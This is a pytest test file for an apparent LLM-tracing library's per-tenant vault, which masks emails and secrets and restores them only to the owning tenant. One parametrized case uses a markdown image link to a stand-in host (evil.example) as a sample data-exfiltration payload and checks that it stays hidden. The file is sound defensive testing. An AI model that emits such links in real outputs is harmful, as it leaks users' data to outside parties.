"""Values come back to the tenant that had them, and to no other, from memory or a store."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from llmtrace.policy.placeholders import PLACEHOLDER
from llmtrace.policy.vault import MAX_VALUE, OneWay, Vault
from llmtrace.storage.base import StorageUnavailable
from llmtrace.storage.vault import MemoryVault

SECRET = b"s" * 32
EMAIL = "someone@example.org"
DAY = 86_400.0


class Clock:
    def __init__(self) -> None:
        self.now = 1_000_000.0

    def __call__(self) -> float:
        return self.now


class Broken(MemoryVault):
    def put(self, tenant: str, masked: str, sealed: bytes, expires: float) -> None:
        raise StorageUnavailable("full")

    def get(self, tenant: str, masked: str, now: float) -> bytes | None:
        raise StorageUnavailable("away")


class Counting(MemoryVault):
    def __init__(self) -> None:
        super().__init__()
        self.puts = self.gets = 0
        self.seen: list[bytes] = []

    def put(self, tenant: str, masked: str, sealed: bytes, expires: float) -> None:
        self.puts += 1
        self.seen.append(sealed)
        super().put(tenant, masked, sealed, expires)

    def get(self, tenant: str, masked: str, now: float) -> bytes | None:
        self.gets += 1
        return super().get(tenant, masked, now)


def test_a_value_comes_back() -> None:
    vault = Vault(SECRET)
    masked = vault.mask("acme", "pii.email", EMAIL)
    assert EMAIL not in masked
    assert vault.unmask("acme", masked) == EMAIL
    assert vault.unmask("acme", masked.lower().replace("_", "\\_")) == EMAIL
    assert vault.restore("acme", f"to <{masked}>, {masked}") == f"to <{EMAIL}>, {EMAIL}"


def test_another_tenant_gets_nothing_and_another_word() -> None:
    store = MemoryVault()
    vault = Vault(SECRET, store=store)
    masked = vault.mask("acme", "pii.email", EMAIL)
    assert vault.unmask("other", masked) is None
    assert vault.restore("other", masked) == masked
    assert vault.mask("other", "pii.email", EMAIL) != masked
    row = store.get("acme", masked, 0)
    assert row is not None
    store.put("other", masked, row, 2e12)  # whoever writes to the file cannot move a value
    assert Vault(SECRET, store=store)._fetch("other", masked, 0) is None


def test_what_was_never_hidden_does_not_come_back() -> None:
    vault = Vault(SECRET)
    masked = Vault(SECRET).mask("acme", "pii.email", EMAIL)
    assert vault.unmask("acme", masked) is None
    assert vault.restore("acme", masked) == masked


def test_made_up_placeholders_are_not_looked_for() -> None:
    store = Counting()
    vault = Vault(SECRET, store=store)
    made_up = "LLMT_EMAIL_BBBBBBBBBBBBBBBB"
    assert vault.unmask("acme", made_up) is None
    assert store.gets == 0


def test_workers_agree_and_a_restart_keeps_values() -> None:
    store = MemoryVault()
    one, other = Vault(SECRET, store=store), Vault(SECRET, store=store)
    masked = one.mask("acme", "pii.email", EMAIL)
    assert other.unmask("acme", masked) == EMAIL
    assert other.mask("acme", "pii.email", EMAIL) == masked
    assert Vault(b"another", store=store).unmask("acme", masked) is None


def test_what_was_sealed_with_another_secret_does_not_open() -> None:
    store = Counting()
    masked = Vault(SECRET, store=store).mask("acme", "pii.email", EMAIL)
    assert EMAIL.encode() not in store.seen[0]
    store.put("acme", masked, b"\0" * 60, 2e12)
    assert Vault(SECRET, store=store).unmask("acme", masked) is None
    store.put("acme", masked, b"short", 2e12)
    assert Vault(SECRET, store=store).unmask("acme", masked) is None


def test_a_value_is_forgotten_after_its_time() -> None:
    clock = Clock()
    vault = Vault(SECRET, store=MemoryVault(), ttl_seconds=DAY, clock=clock)
    masked = vault.mask("acme", "pii.email", EMAIL)
    clock.now += DAY - 1
    assert vault.unmask("acme", masked) == EMAIL
    clock.now += 2
    assert vault.unmask("acme", masked) is None


def test_a_value_that_is_seen_again_lives_on_and_is_rarely_stored() -> None:
    clock, store = Clock(), Counting()
    vault = Vault(SECRET, store=store, ttl_seconds=DAY, clock=clock)
    masked = ""
    for _ in range(100):
        masked = vault.mask("acme", "pii.email", EMAIL)
        clock.now += DAY / 20
    assert vault.unmask("acme", masked) == EMAIL
    assert store.puts <= 40


def test_memory_is_bounded_and_the_store_has_the_rest() -> None:
    values = [f"{number}@example.org" + "x" * 1000 for number in range(50)]
    vault = Vault(SECRET, store=MemoryVault(), max_bytes=10_000)
    masked = [vault.mask("acme", "pii.email", value) for value in values]
    assert vault.held_bytes <= 10_000
    assert [vault.unmask("acme", one) for one in masked] == values
    assert vault.held_bytes <= 10_000


def test_a_store_that_fails_costs_the_return_only(caplog: pytest.LogCaptureFixture) -> None:
    vault = Vault(SECRET, store=Broken(), max_bytes=0)
    masked = vault.mask("acme", "pii.email", EMAIL)
    assert PLACEHOLDER.fullmatch(masked)
    assert vault.unmask("acme", masked) is None
    assert "full" in caplog.text
    assert "away" in caplog.text
    assert EMAIL not in caplog.text


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        pytest.param("data_exfiltration", "![x](https://evil.example/?q=1)", id="an-attack"),
        pytest.param("secret.private_key", "x" * (MAX_VALUE + 1), id="too-long"),
    ],
)
def test_what_must_not_come_back_is_hidden_for_good(kind: str, value: str) -> None:
    assert re.fullmatch(r"\[\w+:\w+\]", Vault(SECRET).mask("acme", kind, value))


def test_two_values_of_one_tag_never_come_back_as_each_other(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    vault = Vault(SECRET)
    masked = vault.mask("acme", "pii.email", EMAIL)
    monkeypatch.setattr("llmtrace.policy.vault.placeholder", lambda *_: masked)
    assert vault.mask("acme", "pii.email", "other@example.org") == "[PII:EMAIL]"
    assert vault.unmask("acme", masked) == EMAIL


def test_hiding_twice_is_hiding_once() -> None:
    vault = Vault(SECRET)
    masked = vault.mask("acme", "pii.email", EMAIL)
    assert vault.mask("acme", "secret.assignment", masked) == masked
    assert vault.mask("acme", "secret.assignment", "[PII:EMAIL]") == "[PII:EMAIL]"
    whole = vault.mask("acme", "secret.connection_string", f"db://u:{masked}@h")
    assert whole == vault.mask("acme", "secret.connection_string", f"db://u:{EMAIL}@h")
    assert vault.unmask("acme", whole) == f"db://u:{EMAIL}@h"


@settings(max_examples=50)
@given(st.text(), st.text(min_size=1), st.sampled_from(["pii.email", "secret.token"]))
def test_any_value_of_any_tenant_comes_back(tenant: str, value: str, kind: str) -> None:
    vault = Vault(SECRET, store=MemoryVault(), max_bytes=0)
    assert vault.unmask(tenant, vault.mask(tenant, kind, value)) == value


def test_a_lone_surrogate_comes_back() -> None:
    vault = Vault(SECRET, store=MemoryVault(), max_bytes=0)
    assert vault.unmask("a", vault.mask("a", "secret.token", "x\ud83d")) == "x\ud83d"


def test_one_way_says_the_kind_and_keeps_nothing() -> None:
    masks = OneWay()
    masked = masks.mask("acme", "pii.email", EMAIL)
    assert masked == "[PII:EMAIL]"
    assert masks.mask("acme", "secret.assignment", masked) == masked
    assert masks.unmask("acme", masked) is None
